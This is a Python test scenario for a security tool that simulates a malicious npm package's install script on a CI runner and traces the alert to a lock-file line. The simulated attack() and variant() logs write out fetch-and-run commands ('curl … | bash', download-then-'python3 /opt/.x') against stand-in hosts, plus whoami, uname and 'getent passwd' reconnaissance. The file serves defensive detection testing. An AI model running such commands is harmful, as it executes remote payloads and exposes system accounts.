"""A package that runs code as it is installed: traced from the build to the line of the lock file that brought it in."""

import json

from buildlogs import CI, Runner, deployed, everyday
from everyday import history
from harness import AT, HOUR, LATER, MINUTE, SECOND, Change, Scenario, line

from lemnis.app import feeds

LOCK, MANIFEST = "package-lock.json", "package.json"
BAD, VERSION = "tiny-labels", "1.4.2"
_CI = """\
name: ci
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm test
"""
_FIRST = {"esbuild": "0.25.0", "express": "4.21.2", "jest": "29.7.0"}
_NEWER = {**_FIRST, "express": "4.21.3"}
_CANVAS = {**_NEWER, "tiny-labels-canvas": "2.0.0"}
_BAD = {**_CANVAS, BAD: VERSION}
_TESTS = {**_BAD, "jest": "29.7.1"}
_COMMAS = {**_TESTS, "comma-tools": VERSION}
_GOOD = {name: version for name, version in _COMMAS.items() if name != BAD}
ADVISORY = {
    "schema_version": "1.7.3", "id": "MAL-2025-190001", "modified": "2025-11-24T16:40:00Z",
    "published": "2025-11-24T16:40:00Z", "summary": f"Malicious code in {BAD} (npm)",
    "details": "A script that runs at installation downloads a program and runs it.",
    "affected": [
        {
            "package": {"ecosystem": "npm", "name": BAD, "purl": f"pkg:npm/{BAD}"}, "versions": [VERSION, "1.4.3"],
            "database_specific": {"cwes": [{"cweId": "CWE-506", "name": "Embedded Malicious Code"}]},
        }
    ],
}  # fmt: skip
"""As OSV has what OpenSSF's malicious-packages repository tells."""


def lock(packages):
    """Return the two files that name what a service needs, as npm writes them."""
    about = {
        "name": "shop",
        "version": "1.0.0",
        "dependencies": {name: f"^{one}" for name, one in packages.items()},
    }
    places = {
        f"node_modules/{name}": {
            "version": version, "resolved": f"https://registry.example/{name}/-/{name}-{version}.tgz",
            "integrity": "sha512-" + "A" * 86 + "==", **({"hasInstallScript": True} if name in {BAD, "esbuild"} else {}),
        }
        for name, version in sorted(packages.items())
    }  # fmt: skip
    whole = {
        "name": "shop",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {"": about, **places},
    }
    return {MANIFEST: json.dumps(about, indent=2) + "\n", LOCK: json.dumps(whole, indent=2) + "\n"}


def prepare(world):
    """The advisory comes out forty minutes after; who watches the feeds has it."""
    path = world.folder / "advisory.json"
    path.write_text(json.dumps(ADVISORY), encoding="utf-8")
    feeds.pull(feeds.folder(world.workspace), "osv", [str(path)], now=AT)


def ordinary(folder):
    """Twelve builds before the package came in."""
    return everyday(folder, AT - HOUR - 10 * MINUTE)


def attack(folder):
    """The next build installs it: its script fetches something, runs it, and that looks around."""
    job, script = _began(folder, Runner("build-7", serial=60_000, pid=30_000), AT, "shop", package=BAD)
    address = "https://cdn.collect.example/i.sh"
    shell = script(AT, "/usr/bin/bash", "bash", "-c", f"curl -fsSL {address} | bash")
    curl = script(AT + 10, "/usr/bin/curl", "curl", "-fsSL", address, parent=shell)
    job.runner.connect(AT + 20, shell, curl, "/usr/bin/curl", "198.51.100.66")
    bash = script(AT + 30, "/usr/bin/bash", "bash", parent=shell)
    script(AT + SECOND, "/usr/bin/whoami", "whoami", parent=bash)
    script(AT + 2 * SECOND, "/usr/bin/uname", "uname", "-a", parent=bash)
    return _ended(folder, job, AT)


def variant(folder):
    """Another package in another repository on another runner, from another host, run by another program."""
    job, script = _began(
        folder, Runner("build-9", serial=80_000, pid=50_000), LATER, "website", package="@tiny/fmt"
    )
    words = ("curl", "-s", "http://192.0.2.77/payload", "-o", "/opt/.x")
    shell = script(LATER, "/usr/bin/bash", "bash", "-c", f"{' '.join(words)} && python3 /opt/.x")
    curl = script(LATER + 10, "/usr/bin/curl", *words, parent=shell)
    job.runner.connect(LATER + 20, shell, curl, "/usr/bin/curl", "192.0.2.77")
    python = script(LATER + SECOND, "/usr/bin/python3.11", "python3", "/opt/.x", parent=shell)
    script(LATER + 2 * SECOND, "/usr/bin/getent", "getent", "passwd", parent=python)
    return _ended(folder, job, LATER)


def benign_hour(folder):
    """Twelve builds of the next day, without it."""
    return everyday(folder, LATER - HOUR - 10 * MINUTE)


def _began(folder, runner, at, repository, *, package):
    """Begin a job that installs packages; return it, and what runs something in the bad one's folder."""
    commit = deployed(folder) if repository == "shop" else "9" * 40
    job = runner.begin(at - 20 * SECOND, repository, run=at // MINUTE * 100 + 50, commit=commit)
    npm, place = job.install(at - 5 * SECOND), f"{job.folder}/node_modules/{package}"
    shell = job.ran(at - SECOND, npm, "/usr/bin/dash", "sh", "-c", "node setup.js", folder=place)
    node = job.ran(at - 900, shell, "/usr/bin/node", "node", "setup.js", folder=place)

    def script(when, exe, *arguments, parent=node):
        return job.ran(when, parent, exe, *arguments, folder=place)

    return job, script


def _ended(folder, job, at):
    job.test(at + 30 * SECOND)
    job.runner.end(job, at + 60 * SECOND)
    return job.runner.logs(folder)


SCENARIO = Scenario(
    repository="shop",
    changes=history(
        Change("Begin", {CI: _CI, "CODEOWNERS": "* @shop/all\n/package-lock.json @shop/frontend\n", **lock(_FIRST)}),
        Change("Smaller labels", lock(_BAD), author="Robin New", name="culprit"),
        near=(
            Change("Newer express", lock(_NEWER)),
            Change("Labels drawn by canvas", lock(_CANVAS)),
            Change("Newer tests", lock(_TESTS)),
            Change("Prefer commas", lock(_COMMAS)),
        ),
        fix=Change("Fix: labels without the package", lock(_GOOD), name="fix"),
    ),
    cause=f"{LOCK}:{line(lock(_COMMAS)[LOCK], f'node_modules/{BAD}{chr(34)}')}",
    owner="@shop/frontend",
    kind="vulnerable package",
    ordinary=ordinary,
    attack=attack,
    variant=variant,
    benign_hour=benign_hour,
    prepare=prepare,
    warns=("new_findings_below_medium",),
)  # fmt: skip
